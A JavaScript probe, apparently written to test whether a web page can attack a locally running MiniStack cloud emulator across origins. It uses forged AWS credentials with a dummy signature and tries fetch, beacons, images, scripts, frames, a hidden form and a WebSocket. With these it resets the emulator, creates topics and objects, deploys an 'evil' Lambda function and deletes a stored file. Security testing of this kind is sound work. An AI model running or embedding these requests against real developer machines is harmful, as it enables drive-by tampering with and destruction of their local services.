// Every way in which a page can send: with and without preflight, by a form, an image, a frame, a beacon, a socket.
// MiniStack takes a credential in query or header for the root's where it names an account, unproven.
// (address of the cloud) -> [[what, outcome]]
async (cloud) => {
  const credential = "123456789012/20260101/us-east-1/SERVICE/aws4_request";
  const as = (service) => new URLSearchParams({
    "X-Amz-Algorithm": "AWS4-HMAC-SHA256", "X-Amz-Credential": credential.replace("SERVICE", service),
    "X-Amz-Signature": "00", "X-Amz-SignedHeaders": "host", "X-Amz-Date": "20260101T000000Z", "X-Amz-Expires": "604800",
  }).toString();
  const header = (service) => ({ Authorization: `AWS4-HMAC-SHA256 Credential=${credential.replace("SERVICE", service)},` +
    " SignedHeaders=host, Signature=00" });
  const topic = "Action=CreateTopic&Version=2010-03-31&Name=";
  const form = (name) => new URLSearchParams(topic + name);
  const code = { FunctionName: "evil", Runtime: "python3.13", Handler: "a.b", Role: "arn:aws:iam::123456789012:role/r",
    Code: { ZipFile: "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==" } };
  const said = [];
  const attempt = async (what, promise) => said.push([what, await promise.then(
    (answer) => answer.type === "opaque" ? "sent blindly" : `read ${answer.status}`, () => "no answer")]);
  for (const mode of ["cors", "no-cors"]) {
    await attempt("reset", fetch(`${cloud}/_ministack/reset`, { method: "POST", mode }));
    await attempt("read", fetch(`${cloud}/_ministack/health`, { mode }));
    await attempt("topic by form", fetch(`${cloud}/`, { method: "POST", mode, body: form("evil-form") }));
    await attempt("topic by link", fetch(`${cloud}/?${as("sns")}&${topic}evil-link`, { mode }));
    await attempt("object", fetch(`${cloud}/kept/evil?${as("s3")}`, { method: "POST", mode, body: "evil" }));
    await attempt("function", fetch(`${cloud}/2015-03-31/functions?${as("lambda")}`,
      { method: "POST", mode, body: JSON.stringify(code) }));
    await attempt("list", fetch(`${cloud}/kept?${as("s3")}`, { mode, credentials: "include" }));
  }
  await attempt("bucket", fetch(`${cloud}/evil`, { method: "PUT", headers: header("s3") }));
  await attempt("delete", fetch(`${cloud}/kept/report.html`, { method: "DELETE", headers: header("s3") }));
  await attempt("signed function", fetch(`${cloud}/2015-03-31/functions`,
    { method: "POST", headers: { ...header("lambda"), "Content-Type": "application/json" }, body: JSON.stringify(code) }));
  await attempt("json", fetch(`${cloud}/`, { method: "POST", body: "{}", headers: { ...header("states"),
    "X-Amz-Target": "AWSStepFunctions.ListStateMachines", "Content-Type": "application/x-amz-json-1.0" } }));
  navigator.sendBeacon(`${cloud}/?${as("sns")}`, form("evil-beacon"));
  const ended = (element, attribute, address) => new Promise((resolve) => {
    element.onload = element.onerror = resolve;
    element[attribute] = address;
    document.body.append(element);
  });
  await ended(document.createElement("img"), "src", `${cloud}/?${as("sns")}&${topic}evil-image`);
  await ended(document.createElement("script"), "src", `${cloud}/?${as("sns")}&${topic}evil-script`);
  await ended(document.createElement("iframe"), "src", `${cloud}/?${as("sns")}&${topic}evil-frame`);
  said.push(["socket", await new Promise((resolve) => {
    const socket = new WebSocket(cloud.replace("http", "ws") + "/mqtt");
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("no answer");
  })]);
  const sent = document.createElement("iframe");
  sent.name = "sent";
  document.body.append(sent);
  await new Promise((resolve) => {
    sent.onload = resolve;
    const posted = document.createElement("form");
    Object.assign(posted, { method: "POST", action: `${cloud}/?${as("sns")}`, target: "sent" });
    for (const [name, value] of form("evil-posted")) {
      posted.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(posted);
    posted.submit();
  });
  return said;
}
